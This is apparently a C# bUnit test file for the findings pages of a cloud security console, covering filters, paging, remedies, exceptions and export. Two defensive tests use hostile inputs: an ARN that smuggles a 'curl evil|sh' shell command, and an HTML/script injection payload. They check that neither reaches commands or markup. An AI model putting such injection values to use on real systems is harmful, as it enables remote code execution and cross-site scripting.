using Bunit;
using Qrie.Console.Tests.Fakes;
using Qrie.Findings;
using Qrie.Inventory;
using Qrie.Policies;

namespace Qrie.Console.Tests.Pages;

public sealed class FindingsTests : ConsoleContext
{
    [Fact]
    public void The_address_says_what_is_read()
    {
        Navigation.NavigateTo("/findings?band=high&state=resolved&policy=S3BucketPublic&account=111111111111&region=eu-west-1&type=AWS%3A%3AS3%3A%3ABucket&q=log&page=3&after=token");

        Render<Console.Pages.Findings>();

        Inventory.FindingReads.Should().ContainSingle().Which.Should().Be((
            new FindingFilter
            {
                MinimumSeverity = 50, MaximumSeverity = 89, State = FindingStatus.Resolved, Policy = "S3BucketPublic", Account = "111111111111",
                Region = "eu-west-1", Type = "AWS::S3::Bucket", Text = "log",
            },
            50,
            "token"));
    }

    [Theory]
    [InlineData("Severity", "critical", "/findings?band=critical")]
    [InlineData("State", "all", "/findings?state=all")]
    [InlineData("Policy", "S3BucketPublic", "/findings?policy=S3BucketPublic")]
    [InlineData("Account", "222222222222", "/findings?account=222222222222")]
    [InlineData("Service", "s3", "/findings?service=s3")]
    [InlineData("Changed", "7d", "/findings?age=7d")]
    [InlineData("Unit", "/prod", "/findings?ou=/prod")]
    [InlineData("Region", "eu-west-1", "/findings?region=eu-west-1")]
    [InlineData("Type", "AWS::S3::Bucket", "/findings?type=AWS::S3::Bucket")]
    public void A_filter_goes_into_the_address_and_from_there_into_one_read(string label, string value, string address)
    {
        var page = Render<Console.Pages.Findings>();
        Inventory.FindingReads.Clear();

        page.FindAll("label").Single(field => field.TextContent.StartsWith(label, StringComparison.Ordinal)).QuerySelector("select")!.Change(value);

        Address.Should().Be(address);
        Inventory.FindingReads.Should().ContainSingle();
    }

    [Theory]
    [InlineData("/findings?ou=/prod/payments&tag=team=core", "team", "core")]
    [InlineData("/findings?ou=/prod/payments&tag=team", "team", null)]
    public void A_unit_is_its_accounts_and_a_tag_its_key_with_or_without_a_value(string address, string key, string? value)
    {
        Navigation.NavigateTo(address);

        var page = Render<Console.Pages.Findings>();

        var filter = Inventory.FindingReads.Should().ContainSingle().Which.Filter;
        filter.Accounts.Should().Equal("111111111111");
        filter.Tag.Should().Be(new TagFilter(key, value));
        Uri.UnescapeDataString(page.FindAll(".q-menu a").Single(link => link.TextContent == "CSV").GetAttribute("href")!).Should().Contain("&ou=/prod/payments&tag=team");
    }

    [Fact]
    public async Task A_finding_whose_resource_has_not_the_tag_is_not_announced()
    {
        Navigation.NavigateTo("/findings?tag=team%3Dcore");
        Inventory.Findings.Add(Samples.Row("shown"));
        Inventory.Resources.Add(Samples.Resource("fresh"));
        Inventory.Resources.Add(Samples.Resource("others") with { Tags = new Dictionary<string, string> { ["team"] = "web" } });
        var page = Render<Console.Pages.Findings>();
        WaitForListener();

        Feed.Publish(Samples.Opened("others"));
        Feed.Publish(Samples.Opened("fresh"));

        await SoonAsync(page, () => page.Find(".q-head .q-button-strong").TextContent.Should().Be("Show 1 new"));
    }

    [Fact]
    public async Task Text_is_searched_once_the_typing_pauses()
    {
        var page = Render<Console.Pages.Findings>();
        Inventory.FindingReads.Clear();
        page.Find("input[type=search]").Input("l");
        page.Find("input[type=search]").Input("logs");

        Inventory.FindingReads.Should().BeEmpty();
        await SoonAsync(page, () => Inventory.FindingReads.Should().ContainSingle().Which.Filter.Text.Should().Be("logs"));
        Address.Should().Be("/findings?q=logs");
    }

    [Fact]
    public void Pages_are_read_one_at_a_time_forth_and_back()
    {
        Inventory.Findings.Add(Samples.Row());
        Inventory.Next = "second";
        var page = Render<Console.Pages.Findings>();

        page.FindAll(".q-pager button").Single(button => button.TextContent == "Next").Click();
        Address.Should().Be("/findings?page=2&after=second");
        page.FindAll(".q-pager button").Single(button => button.TextContent == "Previous").Click();

        Address.Should().Be("/findings");
        Inventory.FindingReads.Select(read => read.After).Should().Equal(null, "second", null);
    }

    [Fact]
    public async Task A_finding_that_opens_is_announced_and_shown_when_asked_for()
    {
        Inventory.Findings.Add(Samples.Row("old"));
        var page = Render<Console.Pages.Findings>();
        WaitForListener();

        Inventory.Findings.Insert(0, Samples.Row("fresh"));
        Feed.Publish(Samples.Opened("fresh"));
        await SoonAsync(page, () => page.Find(".q-head .q-button-strong").TextContent.Should().Be("Show 1 new"));
        page.Markup.Should().NotContain("arn:aws:s3:::fresh");
        page.Find(".q-head .q-button-strong").Click();

        page.Find("tbody tr").TextContent.Should().Contain("fresh");
        page.FindAll(".q-head .q-button-strong").Should().BeEmpty();
    }

    [Fact]
    public async Task A_finding_of_another_filter_is_not_announced()
    {
        Navigation.NavigateTo("/findings?band=low");
        Inventory.Findings.Add(Samples.Row("shown", Samples.Finding(severity: 10)));
        var page = Render<Console.Pages.Findings>();
        WaitForListener();

        Feed.Publish(Samples.Opened("critical-one"));
        Feed.Publish(Samples.Opened("low-one", Samples.Finding(severity: 10)));
        await SoonAsync(page, () => page.Find(".q-head .q-button-strong").TextContent.Should().Be("Show 1 new"));
    }

    [Fact]
    public async Task A_finding_on_the_page_follows_its_resolution_without_a_read()
    {
        Inventory.Findings.Add(Samples.Row("logs"));
        var page = Render<Console.Pages.Findings>();
        WaitForListener();
        Inventory.FindingReads.Clear();

        var resolved = Samples.Finding() with
        {
            Status = FindingStatus.Resolved, ResolvedAt = Samples.Noon.AddMinutes(1), ResolvedReason = ResolvedReason.Compliant, LastEvaluated = Samples.Noon.AddMinutes(1),
        };
        Feed.Publish(Samples.Opened("logs", resolved) with { Kind = FeedEventKind.FindingResolved });

        await SoonAsync(page, () => page.Find("tbody tr").TextContent.Should().Contain("Compliant"));
        Inventory.FindingReads.Should().BeEmpty();
    }

    [Fact]
    public void Details_tell_cause_evidence_and_remedy_and_have_an_address()
    {
        Inventory.Findings.Add(Samples.Row());
        Navigation.NavigateTo("/findings?arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");

        var details = Render<Console.Pages.Findings>().Find(".q-details").TextContent;

        details.Should().ContainAll("PutBucketPolicy", "user/alice", "198.51.100.7", "2026-03-01 12:00:00 UTC", "AllowAll", "Close it.", "Why it matters.", "2.1.4");
    }

    [Fact]
    public void A_remedy_has_numbered_steps_and_commands_to_copy_that_name_the_findings_resource()
    {
        Inventory.Findings.Add(Samples.Row());
        Navigation.NavigateTo("/findings?arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");

        var remedy = Render<Console.Pages.Findings>().Find(".q-details .q-remedy");

        remedy.QuerySelectorAll("h4").Select(title => title.TextContent).Should().Equal("In the console", "With the AWS CLI");
        remedy.QuerySelectorAll("ol > li").Select(step => step.TextContent).Should().Equal("Open the S3 console.", "Choose logs.");
        remedy.QuerySelectorAll(".q-command:has(button[data-copy]) code").Select(command => command.TextContent).Should().Equal(
            "aws s3api put-public-access-block --bucket logs", "aws s3api put-bucket-logging --bucket logs --bucket-logging-status LOGS");
        remedy.TextContent.Should().ContainAll("Close it.", "Ask before.", "Words in capitals", "111111111111");
    }

    [Fact]
    public void A_hostile_name_comes_into_no_command()
    {
        const string Arn = "arn:aws:s3:::logs;curl evil|sh";
        Inventory.Findings.Add(Samples.Row() with { Arn = Arn });
        Navigation.NavigateTo($"/findings?arn={Uri.EscapeDataString(Arn)}&finding=S3BucketPublic");

        var remedy = Render<Console.Pages.Findings>().Find(".q-details .q-remedy");

        remedy.QuerySelector(".q-command code")!.TextContent.Should().Be("aws s3api put-public-access-block --bucket NAME");
        remedy.TextContent.Should().NotContain("curl");
    }

    [Fact]
    public void A_remedy_of_one_text_is_shown_as_that()
    {
        Inventory.Findings.Add(Samples.Row());
        Catalogue.Views[0] = Catalogue.Views[0] with { Remediation = new() { Summary = "Ask us first: aws s3api x --bucket NAME." } };
        Navigation.NavigateTo("/findings?arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");

        var remedy = Render<Console.Pages.Findings>().Find(".q-details .q-remedy");

        remedy.TextContent.Trim().Should().Be("Ask us first: aws s3api x --bucket NAME.");
        remedy.QuerySelectorAll("h4, ol, .q-command").Should().BeEmpty();
    }

    [Fact]
    public void What_violates_is_marked_in_the_configuration_and_unfolded_and_the_rest_is_folded()
    {
        Inventory.Findings.Add(Samples.Row());
        Inventory.Resources.Add(Samples.Resource() with { Configuration = """{"acl":{"grants":[{"to":"a"}]},"policy":{"Statement":[{"Sid":"own"},{"Sid":"all"}]}}""" });
        Violating.Places.Add("/policy/Statement/1");
        Navigation.NavigateTo("/findings?arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");

        var page = Render<Console.Pages.Findings>();

        var marked = page.WaitForElement(".q-details .q-json-marked");
        marked.TextContent.Should().ContainAll("Sid", "all", "violates");
        marked.HasAttribute("open").Should().BeTrue();
        page.FindAll(".q-configuration details").Where(part => part.HasAttribute("open")).Select(part => part.FirstElementChild!.TextContent.Trim())
            .Should().Equal("{2}", "policy:\u00A0{1}", "Statement:\u00A0[2]", "{1}violates");
        page.FindAll(".q-configuration details").Should().HaveCount(8);

        page.FindAll(".q-configuration .q-switch a").Single(way => way.TextContent == "JSON").GetAttribute("href").Should().EndWith("as=json");
        Navigation.NavigateTo("/findings?arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic&as=json");
        page.WaitForElement(".q-configuration mark").TextContent.Should().Be("{\n        \"Sid\": \"all\"\n      }");
        page.Find(".q-configuration [data-copy]").TextContent.Should().Be("Copy");
    }

    [Fact]
    public void Of_a_resolved_finding_nothing_violates_any_more()
    {
        Inventory.Findings.Add(Samples.Row(finding: Samples.Finding() with { Status = FindingStatus.Resolved, ResolvedReason = ResolvedReason.Compliant, ResolvedAt = Samples.Noon }));
        Inventory.Resources.Add(Samples.Resource());
        Violating.Places.Add("/name");
        Navigation.NavigateTo("/findings?state=all&arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");
        Render<Console.Pages.Findings>().FindAll(".q-details .q-configuration").Should().BeEmpty();
    }

    [Fact]
    public void An_export_is_of_exactly_what_is_shown()
    {
        Navigation.NavigateTo("/findings?band=high&account=111111111111&service=s3&age=7d&q=log");

        var page = Render<Console.Pages.Findings>();

        Uri.UnescapeDataString(page.FindAll(".q-menu a").Single(link => link.TextContent == "CSV").GetAttribute("href")!).Should().Be(
            "/api/export/findings?format=csv&state=ACTIVE&band=high&account=111111111111&service=s3&q=log&since=2026-02-22T12:00:00Z");
        Inventory.FindingReads.Single().Filter.Since.Should().Be(Samples.Noon.AddDays(-7));
    }

    [Fact]
    public void Chosen_findings_are_excepted_one_by_one_with_reason_owner_and_end()
    {
        Inventory.Findings.Add(Samples.Row("one"));
        Inventory.Findings.Add(Samples.Row("two"));
        var page = Render<Console.Pages.Findings>();
        page.Find("thead input[type=checkbox]").Change(true);
        page.FindAll("button").Single(button => button.TextContent == "Except…").Click();
        page.Find(".q-exception").Submit();
        page.Find(".q-exception [role=alert]").TextContent.Should().Contain("why");
        Exceptions.List.Should().BeEmpty();

        page.Find(".q-exception textarea").Input("Known, until the migration.");
        page.Find(".q-exception input[type=text]").Input("team core");
        page.Find(".q-exception input[type=date]").Input("2026-03-31");
        page.Find(".q-exception").Submit();

        Exceptions.List.Select(exception => exception.Arn).Should().BeEquivalentTo("arn:aws:s3:::one", "arn:aws:s3:::two");
        Exceptions.List.Should().AllSatisfy(exception => exception.Should().BeEquivalentTo(new
        {
            PolicyId = "S3BucketPublic", Reason = "Known, until the migration.", Owner = "team core", CreatedBy = "local",
            ExpiresAt = new DateTimeOffset(2026, 4, 1, 0, 0, 0, TimeSpan.Zero),
        }));
        page.Find(".q-outcome").TextContent.Should().Contain("2 exceptions");
    }

    [Fact]
    public void An_excepted_finding_tells_by_whom_and_its_exception_can_be_ended()
    {
        Exceptions.List.Add(new PolicyException
        {
            Id = "x-1", PolicyId = "S3BucketPublic", Arn = "arn:aws:s3:::logs", Reason = "Known.", Owner = "team core", CreatedAt = Samples.Noon, CreatedBy = "alice",
            ExpiresAt = Samples.Noon.AddDays(3),
        });
        Inventory.Findings.Add(Samples.Row(finding: Samples.Finding() with { Status = FindingStatus.Resolved, ResolvedReason = ResolvedReason.Exception, ResolvedAt = Samples.Noon, ExceptionId = "x-1" }));
        Navigation.NavigateTo("/findings?state=all&arn=arn%3Aaws%3As3%3A%3A%3Alogs&finding=S3BucketPublic");
        var page = Render<Console.Pages.Findings>();
        page.Find(".q-details").TextContent.Should().ContainAll("Known.", "team core", "alice");

        page.FindAll(".q-details button").Single(button => button.TextContent.StartsWith("End the exception", StringComparison.Ordinal)).Click();
        page.Find(".q-details .q-button-danger").Click();

        Exceptions.List.Should().BeEmpty();
    }

    [Theory]
    [InlineData("policy", "Bucket is open to the public", "/findings?policy=S3BucketPublic")]
    [InlineData("resource", "logs", "/resources/arn:aws:s3:::logs")]
    [InlineData("account", "payments", "/findings?account=111111111111")]
    public void Groups_count_what_is_open(string by, string title, string address)
    {
        Inventory.Resources.Add(Samples.Resource() with { OpenFindings = 3 });
        Inventory.Findings.AddRange([Samples.Row("logs"), Samples.Row("media"), Samples.Row("more")]);

        var row = Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, by)).Find("tbody tr");

        row.TextContent.Should().ContainAll(title, by == "resource" ? "1" : "3", "Critical");
        Uri.UnescapeDataString(row.QuerySelector("a")!.GetAttribute("href")!).Should().Be(address);
    }

    [Theory]
    [InlineData("policy", "/findings/by/policy?region=us-east-1", "/findings?policy=S3BucketPublic&region=us-east-1", "2")]
    [InlineData("account", "/findings/by/account?band=critical", "/findings?band=critical&account=111111111111", "3")]
    [InlineData("resource", "/findings/by/resource?q=lo", "/resources/arn:aws:s3:::logs", "1")]
    [InlineData("resource", "/findings/by/resource?policy=S3BucketPublic", "/resources/arn:aws:s3:::logs", "1")]
    public void Groups_keep_to_every_filter_and_so_do_the_lists_that_they_lead_to(string by, string address, string leads, string count)
    {
        Inventory.Findings.AddRange([Samples.Row("logs"), Samples.Row("media"), Samples.Row("far") with { Region = "eu-west-1" }]);
        Navigation.NavigateTo(address);

        var page = Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, by));

        var row = page.FindAll("tbody tr").First(row => Uri.UnescapeDataString(row.QuerySelector("a")!.GetAttribute("href")!) == leads);
        row.QuerySelector("td:last-child")!.FirstChild!.TextContent.Should().Be(count);
        page.FindAll(".q-tabs a").Select(tab => tab.GetAttribute("href")!.Split('?')[1]).Distinct().Should().ContainSingle("another tab keeps the filters")
            .Which.Should().Be(address.Split('?')[1]);
    }

    [Fact]
    public void Resources_are_counted_like_any_group_gravest_first_with_their_accounts_and_can_be_kept_and_exported()
    {
        Inventory.Resources.Add(Samples.Resource("media"));
        Inventory.Findings.AddRange([Samples.Row("logs"), Samples.Row("media"), Samples.Row("media", Samples.Finding("S3BucketLogging", 30))]);

        var page = Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, "resource"));

        page.FindAll("tbody tr").Select(row => row.QuerySelector("a")!.TextContent).Should().Equal("media", "logs");
        page.Find("tbody tr").TextContent.Should().ContainAll("payments", "us-east-1", "Critical", "1 critical");
        page.FindAll(".q-head .q-menu a[download]").Should().HaveCount(3);
        Inventory.TallyReads.Should().ContainSingle().Which.By.Should().Be(FindingGrouping.Resource);
    }

    [Theory]
    [InlineData("/findings?band=foo", "“foo” is no severity")]
    [InlineData("/findings?state=foo", "“foo” is no state")]
    [InlineData("/findings?age=foo", "“foo” is no age")]
    public void A_value_that_is_none_is_told_instead_of_shown_as_a_filter_in_silence(string address, string told)
    {
        Inventory.Findings.Add(Samples.Row());
        Navigation.NavigateTo(address);
        Render<Console.Pages.Findings>().Find("[role=alert]").TextContent.Should().ContainAll(told, "limits nothing");
    }

    [Fact]
    public void What_findings_are_not_grouped_by_is_told()
    {
        Inventory.Findings.Add(Samples.Row());
        var page = Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, "foo"));
        page.Find(".q-notice").TextContent.Should().Contain("not grouped by “foo”");
        page.FindAll("table").Should().BeEmpty();
        Inventory.TallyReads.Should().BeEmpty();
    }

    [Fact]
    public void Where_more_findings_match_than_are_counted_that_is_said()
    {
        Inventory.Findings.Add(Samples.Row());
        Navigation.NavigateTo("/findings/by/policy?q=lo");
        Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, "policy")).FindAll(".q-table-note").Should().BeEmpty();
        Inventory.MostCounted = 10_000;

        var page = Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, "policy"));

        page.Find(".q-table-note").TextContent.Should().Contain("10,000 that changed last");
    }

    [Fact]
    public void Groups_have_pages_and_the_address_says_which()
    {
        Inventory.Findings.Add(Samples.Row());
        Inventory.Next = "3\n95\n111111111111";
        Navigation.NavigateTo("/findings/by/account?band=critical");
        var page = Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, "account"));

        page.FindAll(".q-pager button").Single(button => button.TextContent == "Next").Click();

        Address.Should().Be("/findings/by/account?band=critical&page=2&after=3\n95\n111111111111");
        Inventory.Next = null;
        page = Render<Console.Pages.FindingGroups>(parameters => parameters.Add(page => page.By, "account"));
        Inventory.TallyReads[^1].Should().Match<(FindingFilter Filter, FindingGrouping By, string? After)>(
            read => read.By == FindingGrouping.Account && read.Filter.State == FindingStatus.Active && read.Filter.MinimumSeverity == 90 && read.After == "3\n95\n111111111111");
        page.FindAll(".q-pager button").Single(button => button.TextContent == "Next").HasAttribute("disabled").Should().BeTrue();
    }

    [Fact]
    public void A_place_that_cannot_be_found_is_said_and_offers_a_way_on()
    {
        Navigation.NavigateTo("/findings?page=2&after=nonsense");
        Inventory.Failure = new FormatException();

        var page = Render<Console.Pages.Findings>();

        page.Find("[role=alert]").TextContent.Should().Contain("Start again from the newest");
        Inventory.Failure = null;
        page.Find("[role=alert] button").Click();
        Address.Should().Be("/findings");
        page.FindAll("[role=alert]").Should().BeEmpty();
    }

    [Fact]
    public void What_an_attacker_may_choose_is_text_and_nothing_else()
    {
        const string hostile = "<img src=x onerror=alert(1)><script>alert(2)";
        Inventory.Findings.Add(Samples.Row(hostile, Samples.Finding() with { Message = hostile, Evidence = $$"""{"tag":"{{hostile}}"}""", Cause = Samples.Cause(hostile) with { Principal = hostile, SourceIp = hostile } }));
        Navigation.NavigateTo($"/findings?arn={Uri.EscapeDataString("arn:aws:s3:::" + hostile)}&finding=S3BucketPublic&q={Uri.EscapeDataString(hostile)}");

        var page = Render<Console.Pages.Findings>();

        page.FindAll("img, script, [onerror]").Should().BeEmpty();
        page.Find(".q-details").TextContent.Should().Contain(hostile);
        page.Find("tbody .q-cell-resource").TextContent.Should().Contain(hostile);
    }
}
